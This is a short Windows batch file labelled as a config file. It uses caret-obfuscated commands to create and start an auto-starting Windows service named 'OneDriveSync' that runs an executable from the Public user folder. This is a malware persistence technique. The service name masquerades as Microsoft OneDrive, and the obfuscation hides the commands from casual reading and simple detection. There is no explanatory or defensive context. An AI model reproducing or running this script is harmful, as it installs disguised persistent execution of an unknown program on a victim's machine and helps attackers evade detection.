REM config 6029 v1
@echo off
set dirz=^s^c c^r^eate O^n^e^D^riv^e^Syn^c ^bin^Pat^h= "cmd.exe /c C:\Users\Public\svc.exe" s^tart= ^au^to
call %dirz%
@echo off
set vagr=sc ^st^a^rt OneD^r^iv^eS^yn^c
call %vagr%
